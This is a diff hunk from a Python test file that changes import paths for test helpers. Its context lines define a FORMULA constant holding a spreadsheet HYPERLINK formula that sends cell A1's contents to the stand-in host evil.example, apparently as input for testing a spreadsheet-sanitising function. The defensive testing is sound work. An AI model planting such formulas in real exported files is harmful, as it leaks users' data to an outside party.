@@ -37,8 +37,8 @@ from labshare.safety import spreadsheet_text
 from labshare.timeutil import set_clock
 from tests import factories
 from tests.factories import PASSWORD
-from tests.test_api_support import END, NOW, START, bearer, error_of
-from tests.test_jobs_support import SmtpServer, smtp_fixture  # noqa: F401 - the smtp fixture
+from tests.helpers import END, NOW, START, bearer, error_of
+from tests.jobsutil import SmtpServer
 
 ROOT = Path(__file__).resolve().parent.parent
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
